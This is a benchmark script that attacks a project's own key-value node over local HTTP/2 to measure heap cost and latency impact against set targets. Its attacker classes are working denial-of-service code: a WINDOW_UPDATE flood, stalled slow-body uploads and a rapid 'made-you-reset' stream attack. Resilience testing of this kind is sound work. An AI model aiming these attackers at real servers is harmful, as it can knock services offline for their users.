#!/usr/bin/env python3
"""One hostile HTTP/2 connection against one node: what it costs the node, and other clients' p99.

Issue 32's targets: one hostile HTTP/2 connection costs the node less than 64 MiB of heap and
leaves other clients' p99 within 2x of the idle p99. Starts one node as `./ringkv serve` starts
it (default flags, the warm-up included), pinned to the server CPU, writes the key space, then
runs rounds of four phases of the same open-loop GET load (vegeta over HTTP/1.1, pinned to the
load CPU, like the anti-entropy impact step):

  idle            the load alone
  flood           plus one h2c connection that sends the preface and then WINDOW_UPDATE frames
                  with increment 0 on idle stream ids (each draws a RST_STREAM) and never reads,
                  from a 4 KiB receive buffer
  slow-body       plus one h2c connection with up to --slow-streams PUT streams, each declaring
                  1 MiB and sending 60 KB of it, then nothing
  made-you-reset  plus one h2c connection opening stream after stream of a GET followed by
                  WINDOW_UPDATE(0) on it, which the node must reset itself (CVE-2025-8671 class)

The attackers are hand-built frames over raw sockets (no HTTP/2 library), one connection at a
time: when the node closes it, the attacker opens the next, so the attack lasts the whole phase;
the count of connections the node closed is reported. They run paced (--flood-rate,
--reset-rate) so that the attacker's own CPU does not starve the load generator that shares
the load CPU, which would show up as latency the node did not cause.

Each phase starts with a full collection in the node (jcmd GC.run), so that garbage an earlier
phase left does not count against the next. During each phase a sampler reads the node's heap
in use (jvm_memory_used_bytes{area="heap"} from /metrics) and its RSS (/proc) twice a second. For each phase the summary gives p50/p99 and
non-200 answers, the heap's and the RSS's maximum; per attack the p99 against the same round's
idle p99 and the heap maximum over the idle one's, per round and as mean and 95 % interval. A
node that dies during an attack ends the run; the results so far are written and say so.

Writes bench/results/h2-abuse-<time>-<rev>.json and a .txt beside it. Run it as
`./ringkv bench --h2-abuse [options]` (the launcher builds first and sets JAVA_HOME).
"""
import argparse
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

import results_file
import vegeta
from replicated_path import Cluster, ROOT, interval, prefill

ATTACKS = ["flood", "slow-body", "made-you-reset"]
PHASES = ["idle"] + ATTACKS
TARGET_HEAP_MIB = 64
TARGET_P99_RATIO = 2.0

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# RFC 9113 §6: frame types and flags used here
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE = 0x3, 0x4


def log(msg):
    print("[h2-abuse %s] %s" % (time.strftime("%H:%M:%S"), msg), file=sys.stderr, flush=True)


# ---- frames, by hand (RFC 9113 §4.1) and HPACK without Huffman or indexing (RFC 7541) ----

def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream_id & 0x7FFFFFFF) + payload


def window_update(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment & 0x7FFFFFFF))


def hpack_int(value, prefix_bits, first_byte):
    """RFC 7541 §5.1: value in a prefix of prefix_bits, the rest of the first byte from first_byte."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(text):
    raw = text.encode("ascii")
    return hpack_int(len(raw), 7, 0x00) + raw


def request_block(method, path, extra=()):
    """A request header block. Static table (RFC 7541 Appendix A): :authority is 1, :method 2, :path
    4, :scheme http 6. Names by index, values as literals without indexing, so the block stands
    alone: no dynamic table state to keep in step across reconnects."""
    block = hpack_int(2, 4, 0x00) + hpack_string(method)
    block += hpack_int(6, 7, 0x80)
    block += hpack_int(4, 4, 0x00) + hpack_string(path)
    block += hpack_int(1, 4, 0x00) + hpack_string("127.0.0.1")
    for name, value in extra:
        block += b"\x00" + hpack_string(name) + hpack_string(value)
    return block


def client_start():
    return PREFACE + frame(SETTINGS, 0, 0)


def read_frame(sock, buf):
    """The next (type, flags, stream id, payload) from sock, buf holding bytes read ahead; None at the end."""
    while True:
        if len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) >= 9 + length:
                ftype, flags = buf[3], buf[4]
                sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload = bytes(buf[9:9 + length])
                del buf[:9 + length]
                return ftype, flags, sid, payload
        chunk = sock.recv(65536)
        if not chunk:
            return None
        buf.extend(chunk)


def settings_of(payload):
    return {struct.unpack(">H", payload[i:i + 2])[0]: struct.unpack(">I", payload[i + 2:i + 6])[0]
            for i in range(0, len(payload) - 5, 6)}


# ---- attackers ----

class Attacker:
    """One hostile connection at a time, for a phase: run one session on it; when the node ends it,
    count that and open the next, until stop()."""

    def __init__(self, port):
        self.port = port
        self.stopped = threading.Event()
        self.sock = None
        self.connections = 0
        self.closed_by_node = 0
        self.bytes_sent = 0
        self.streams = 0
        self.streams_ended_by_node = 0  # streams the node answered or reset, over all connections
        self.answered = set()
        self.thread = threading.Thread(target=self.run, daemon=True)

    def connect(self, receive_buffer=0):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer:
            # before connect, so the window the kernel advertises stays small
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.connect(("127.0.0.1", self.port))
        self.sock = sock
        self.connections += 1
        return sock

    def send(self, data):
        self.sock.sendall(data)
        self.bytes_sent += len(data)

    def run(self):
        while not self.stopped.is_set():
            try:
                self.session()
            except OSError:
                pass
            finally:
                if self.sock is not None:
                    self.sock.close()
                self.streams_ended_by_node += len(self.answered)
                self.answered = set()
            if not self.stopped.is_set():
                self.closed_by_node += 1
                time.sleep(0.05)  # not a reconnect storm: one connection's worth of attack

    def paced(self, per_second, count_so_far, started):
        """Sleeps until count_so_far units are due at per_second since started."""
        wait = started + count_so_far / per_second - time.monotonic()
        if wait > 0:
            self.stopped.wait(wait)

    def start(self):
        self.thread.start()
        return self

    def stop(self):
        self.stopped.set()
        sock = self.sock
        if sock is not None:
            try:
                sock.shutdown(socket.SHUT_RDWR)  # wakes a send blocked on a node that stopped reading
            except OSError:
                pass
        self.thread.join(timeout=30)

    def stats(self):
        return {"connections": self.connections, "closed_by_node": self.closed_by_node,
                "bytes_sent": self.bytes_sent, "streams": self.streams,
                "streams_ended_by_node": self.streams_ended_by_node + len(self.answered)}

    def handshake(self, sock):
        """Sends the preface and SETTINGS, reads until the node's SETTINGS (acknowledged) and its
        acknowledgement of ours; returns the node's settings. A reader thread then drains whatever
        else comes, noting the streams answered or reset, and sets self.ended at the close."""
        self.send(client_start())
        buf = bytearray()
        node_settings = None
        acked = False
        sock.settimeout(10)
        while node_settings is None or not acked:
            f = read_frame(sock, buf)
            if f is None:
                raise OSError("closed during the handshake")
            ftype, flags, sid, payload = f
            if ftype == SETTINGS and flags & ACK:
                acked = True
            elif ftype == SETTINGS:
                node_settings = settings_of(payload)
                self.send(frame(SETTINGS, ACK, 0))
        sock.settimeout(None)
        self.ended = threading.Event()
        self.answered = set()
        threading.Thread(target=self.drain, args=(sock, buf), daemon=True).start()
        return node_settings

    def drain(self, sock, buf):
        try:
            while True:
                f = read_frame(sock, buf)
                if f is None:
                    break
                if f[0] in (HEADERS, RST_STREAM) and f[2] != 0:
                    self.answered.add(f[2])
        except OSError:
            pass
        finally:
            self.ended.set()


class Flood(Attacker):
    """WINDOW_UPDATE(0) on idle stream ids, paced at rate frames/s, never a byte read."""

    def __init__(self, port, rate):
        super().__init__(port)
        self.rate = rate
        self.batch = b"".join(window_update(2 * i + 1, 0) for i in range(1000))

    def session(self):
        self.connect(receive_buffer=4096)
        self.send(client_start())
        started, frames = time.monotonic(), 0
        while not self.stopped.is_set():
            self.send(self.batch)
            frames += 1000
            self.paced(self.rate, frames, started)


class SlowBody(Attacker):
    """PUT streams that declare 1 MiB, send 60 KB (or less, within the node's windows), then stall."""

    def __init__(self, port, streams):
        super().__init__(port)
        self.wanted = streams

    def session(self):
        sock = self.connect()
        node = self.handshake(sock)
        streams = min(self.wanted, node.get(SETTINGS_MAX_CONCURRENT_STREAMS, self.wanted))
        part = min(60_000, node.get(SETTINGS_INITIAL_WINDOW_SIZE, 65535))
        sid = 1
        while not self.stopped.is_set():
            # Streams the node answered (408) or reset no longer hold anything: open as many anew.
            while sid // 2 - len(self.answered) < streams:  # sid // 2: streams opened on this connection
                block = request_block("PUT", "/v0/entity?id=slow-%d" % sid, [("content-length", str(1 << 20))])
                # DATA frames of at most 16,384 bytes: the maximum frame size every peer accepts
                self.send(frame(HEADERS, END_HEADERS, sid, block) + b"".join(
                    frame(DATA, 0, sid, b"s" * min(16384, part - at)) for at in range(0, part, 16384)))
                sid += 2
                self.streams += 1
            # Then nothing on them, until the node ends something or the phase ends.
            if self.ended.wait(0.2):
                return


class MadeYouReset(Attacker):
    """Stream after stream: a GET with END_STREAM, then WINDOW_UPDATE(0) on it, at rate streams/s."""

    def __init__(self, port, rate, keys):
        super().__init__(port)
        self.rate, self.keys = rate, keys

    def session(self):
        sock = self.connect()
        self.handshake(sock)
        started, sid, sent = time.monotonic(), 1, 0
        while not self.stopped.is_set() and sid < (1 << 31) - 200:
            batch = []
            for _ in range(100):
                block = request_block("GET", "/v0/entity?id=key%07d" % (sent % self.keys))
                batch.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, block) + window_update(sid, 0))
                sid += 2
                sent += 1
            self.send(b"".join(batch))
            self.streams += 100
            self.paced(self.rate, sent, started)


# ---- the node's memory ----

class Sampler:
    """The node's heap in use (its /metrics) and RSS (/proc), twice a second, while a phase runs."""

    def __init__(self, url, pid):
        self.url, self.pid = url, pid
        self.heap, self.rss = [], []
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)

    def run(self):
        while not self.stopped.wait(0.5):
            rss = rss_bytes(self.pid)
            if rss is not None:
                self.rss.append(rss)
            heap = heap_used_bytes(self.url)
            if heap is not None:
                self.heap.append(heap)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stopped.set()
        self.thread.join(timeout=10)

    def result(self):
        mib = 1 << 20
        return {"heap_max_mib": max(self.heap) / mib if self.heap else None,
                "heap_mean_mib": sum(self.heap) / len(self.heap) / mib if self.heap else None,
                "rss_max_mib": max(self.rss) / mib if self.rss else None, "samples": len(self.heap)}


def heap_used_bytes(url):
    try:
        with urllib.request.urlopen(url + "/metrics", timeout=2) as r:
            for line in r.read().decode().splitlines():
                if line.startswith('jvm_memory_used_bytes{area="heap"}'):
                    return float(line.rsplit(" ", 1)[1])
    except Exception:
        return None  # a node too busy to answer within 2 s: no sample, the next one may come
    return None


def rss_bytes(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
    except OSError:
        return None
    return None


def node_alive(url):
    try:
        with urllib.request.urlopen(url + "/v0/status", timeout=10) as r:
            return r.status == 200
    except Exception:
        return False


# ---- the load and the phases ----

def load(vegeta_bin, url, rate, seconds, keys, load_cpus, tmp):
    targets = os.path.join(tmp, "get.targets")
    if not os.path.exists(targets):
        vegeta.write_targets(targets, [("GET", "%s/v0/entity?id=key%07d" % (url, i % keys), None)
                                       for i in range(min(keys, rate * seconds))])
    rows = vegeta.attack(vegeta_bin, targets, rate, seconds, load_cpus)
    lat = sorted(ms for _, _, ms in rows)
    return {"requests": len(rows), "non_200": sum(1 for _, code, _ in rows if code != 200),
            "p50_ms": vegeta.percentile(lat, 0.5), "p99_ms": vegeta.percentile(lat, 0.99),
            "max_ms": lat[-1] if lat else float("nan")}


def attacker_for(phase, port, args):
    if phase == "flood":
        return Flood(port, args.flood_rate)
    if phase == "slow-body":
        return SlowBody(port, args.slow_streams)
    if phase == "made-you-reset":
        return MadeYouReset(port, args.reset_rate, args.keys)
    return None


def full_gc(pid):
    """A full collection in the node before a phase (jcmd GC.run), so that each phase starts from a
    collected heap: what an earlier attack left for the collector does not count against the next
    phase, and an attack's heap maximum compares with the idle one's. Never during a phase."""
    jcmd = os.path.join(os.environ["JAVA_HOME"], "bin", "jcmd") if os.environ.get("JAVA_HOME") else "jcmd"
    done = subprocess.run([jcmd, str(pid), "GC.run"], capture_output=True, text=True)
    if done.returncode != 0:
        log("jcmd GC.run failed (%s); the phase starts without a full collection" % done.stderr.strip()[:200])
    time.sleep(0.5)


def run_phase(phase, node, pid, vegeta_bin, args, tmp):
    url = node.urls[0]
    port = int(url.rsplit(":", 1)[1])
    full_gc(pid)
    attacker = attacker_for(phase, port, args)
    if attacker:
        attacker.start()
        time.sleep(1)  # the attack under way before the load starts
    with Sampler(url, pid) as sampler:
        res = load(vegeta_bin, url, args.rate, args.duration, args.keys, args.load_cpus, tmp)
    if attacker:
        attacker.stop()
        res["attack"] = attacker.stats()
    res.update(sampler.result())
    res["node_alive"] = node_alive(url)
    return res


# ---- the summary ----

def verdict(low, high, target):
    if high < target:
        return "within the target"
    if low >= target:
        return "over the target"
    return "inconclusive: the interval straddles %g (more rounds, or a quieter machine)" % target


def summarise(phases, meta):
    lines = ["GET at %d/s (vegeta, HTTP/1.1, open loop) against one node; each attack phase adds one hostile "
             "h2c connection at a time" % meta["rate"], "",
             "%-15s %20s %10s %9s %18s %14s %s" % ("phase", "p99 ms (95% CI)", "p50 ms", "non-200", "heap max MiB",
                                                   "RSS max MiB", "connections the node closed")]
    for name in PHASES:
        ps = [p for p in phases if p["phase"] == name]
        if not ps:
            continue
        p99 = interval([p["p99_ms"] for p in ps])
        heaps = [p["heap_max_mib"] for p in ps if p.get("heap_max_mib") is not None]
        rss = [p["rss_max_mib"] for p in ps if p.get("rss_max_mib") is not None]
        closed = [p["attack"]["closed_by_node"] for p in ps if "attack" in p]
        lines.append("%-15s %9.2f ± %-8.2f %10.2f %9d %18s %14s %s" % (
            name, p99[0], p99[1], sum(p["p50_ms"] for p in ps) / len(ps), sum(p["non_200"] for p in ps),
            "%.0f" % max(heaps) if heaps else "-", "%.0f" % max(rss) if rss else "-",
            ", ".join(str(c) for c in closed) if closed else "-"))
    idle = {p["round"]: p for p in phases if p["phase"] == "idle"}
    lines.append("")
    for name in ATTACKS:
        pairs = [(idle[p["round"]], p) for p in phases if p["phase"] == name and p["round"] in idle]
        if not pairs:
            continue
        ratios = [a["p99_ms"] / i["p99_ms"] for i, a in pairs]
        extra = [a["heap_max_mib"] - i["heap_max_mib"] for i, a in pairs
                 if a.get("heap_max_mib") is not None and i.get("heap_max_mib") is not None]
        lines.append("%s: p99 / idle p99 per round %s" % (name, ", ".join("%.2f" % r for r in ratios)))
        lines.append("  heap max over idle's per round, MiB: %s" % ", ".join("%.0f" % e for e in extra))
        ended = [a["attack"].get("streams_ended_by_node") for _, a in pairs]
        if all(e is not None for e in ended):
            lines.append("  streams the node answered or reset per round (of those opened): %s" % ", ".join(
                "%d of %d" % (e, a["attack"]["streams"]) for e, (_, a) in zip(ended, pairs)))
        if len(pairs) > 1:
            mean, half = interval(ratios)
            lines.append("  p99 ratio mean %.2f ± %.2f; target < %.0fx: %s" % (
                mean, half, TARGET_P99_RATIO, verdict(mean - half, mean + half, TARGET_P99_RATIO)))
            if len(extra) > 1:
                mean, half = interval(extra)
                lines.append("  extra heap mean %.0f ± %.0f MiB; target < %d MiB: %s" % (
                    mean, half, TARGET_HEAP_MIB, verdict(mean - half, mean + half, TARGET_HEAP_MIB)))
        else:
            lines.append("  one round: no interval, no verdict (run --rounds 2 or more)")
    dead = [p for p in phases if not p.get("node_alive", True)]
    if dead:
        lines.append("")
        lines.append("THE NODE DIED during %s in round %d; the run stopped there." % (dead[0]["phase"], dead[0]["round"]))
    return "\n".join(lines)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--rounds", type=int, default=3, help="rounds of idle and the three attacks (default 3)")
    ap.add_argument("--duration", type=int, default=30,
                    help="seconds of load per phase (default 30). The slow-body streams send their 60 KB at once, "
                         "which passes the node's first 10 s body-rate window; the second window refuses them "
                         "(408) about 20 s after they open, so a phase shorter than that never sees the defence act")
    ap.add_argument("--rate", type=int, default=1000, help="GETs per second offered (default 1000)")
    ap.add_argument("--keys", type=int, default=10000, help="keys written first (default 10000)")
    ap.add_argument("--flood-rate", type=int, default=500000,
                    help="WINDOW_UPDATE frames per second the flood sends, 13 bytes each (default 500000, 6.5 MB/s)")
    ap.add_argument("--slow-streams", type=int, default=100,
                    help="PUT streams the slow-body attacker holds, at most the node's stream limit (default 100)")
    ap.add_argument("--reset-rate", type=int, default=5000,
                    help="streams per second the made-you-reset attacker opens (default 5000)")
    ap.add_argument("--node-args", default="", help="extra flags for `ringkv serve` (default: none, as it starts)")
    ap.add_argument("--server-cpus", default=os.environ.get("BENCH_SERVER_CPUS", "0"))
    ap.add_argument("--load-cpus", default=os.environ.get("BENCH_LOAD_CPUS", "1"))
    ap.add_argument("--out-dir", default=os.path.join(results_file.BENCH_DIR, "results"))
    results_file.add_summarise_argument(ap)
    args = ap.parse_args()
    if args.summarise:
        results_file.rewrite_summary(args.summarise, lambda doc: summarise(doc["phases"], doc["meta"]))
        return
    if min(args.rounds, args.duration, args.rate, args.keys, args.flood_rate, args.slow_streams, args.reset_rate) < 1:
        ap.error("--rounds, --duration, --rate, --keys, --flood-rate, --slow-streams and --reset-rate must be at least 1")
    if subprocess.run(["bash", "-c", "command -v taskset"], capture_output=True).returncode != 0:
        raise SystemExit("taskset is not installed (Debian: util-linux)")
    vegeta_bin = vegeta.ensure_vegeta()
    # The attackers run in this process: on the load CPUs, with the load generator, not the node's.
    os.sched_setaffinity(0, {int(c) for part in args.load_cpus.split(",") for c in cpu_range(part)})
    run_id, rev, dirty = results_file.run_id()
    phases = []
    meta = {"run_id": run_id, "git_rev": rev, "git_dirty": dirty, "rounds": args.rounds, "duration_s": args.duration,
            "rate": args.rate, "keys": args.keys, "value_bytes": 100, "flood_rate": args.flood_rate,
            "slow_streams": args.slow_streams, "reset_rate": args.reset_rate, "node_args": args.node_args,
            "server_cpus": args.server_cpus, "load_cpus": args.load_cpus,
            "command": " ".join(["./ringkv", "bench", "--h2-abuse"] + sys.argv[1:])}
    with tempfile.TemporaryDirectory(prefix="ringkv-h2-abuse.") as tmp:
        node = Cluster("node", 1, args.node_args.split(), tmp, args.server_cpus)
        try:
            node.await_ready()
            url = node.urls[0]
            pid = node.procs[0].pid  # taskset and the launcher exec the JVM in place
            log("node at %s (pid %d); writing %d keys" % (url, pid, args.keys))
            prefill(url, args.keys, b"v" * 100)
            log("discarded warm-up: %d s of the load alone" % min(args.duration, 5))
            load(vegeta_bin, url, args.rate, min(args.duration, 5), args.keys, args.load_cpus, tmp)
            alive = True
            for rnd in range(1, args.rounds + 1):
                for name in PHASES:
                    res = run_phase(name, node, pid, vegeta_bin, args, tmp)
                    res.update({"round": rnd, "phase": name})
                    phases.append(res)
                    log("round %d %s: p99 %.2f ms, non-200 %d, heap max %s MiB, RSS max %s MiB%s" % (
                        rnd, name, res["p99_ms"], res["non_200"],
                        "%.0f" % res["heap_max_mib"] if res["heap_max_mib"] is not None else "-",
                        "%.0f" % res["rss_max_mib"] if res["rss_max_mib"] is not None else "-",
                        "; attacker %s" % res["attack"] if "attack" in res else ""))
                    if not res["node_alive"]:
                        log("the node does not answer after %s; stopping" % name)
                        alive = False
                        break
                if not alive:
                    break
        finally:
            node.stop()
            meta["node_log_tail"] = tail(node.logs[0], 20)
    meta["loadavg_at_end"] = results_file.loadavg()
    base = results_file.write(args.out_dir, "h2-abuse", meta, {"meta": meta, "phases": phases}, summarise(phases, meta))
    log("results: %s.json and .txt" % os.path.relpath(base, ROOT))


def cpu_range(part):
    if "-" in part:
        low, high = part.split("-")
        return range(int(low), int(high) + 1)
    return [int(part)]


def tail(path, lines):
    try:
        with open(path, errors="replace") as f:
            return f.read().splitlines()[-lines:]
    except OSError:
        return []


if __name__ == "__main__":
    main()
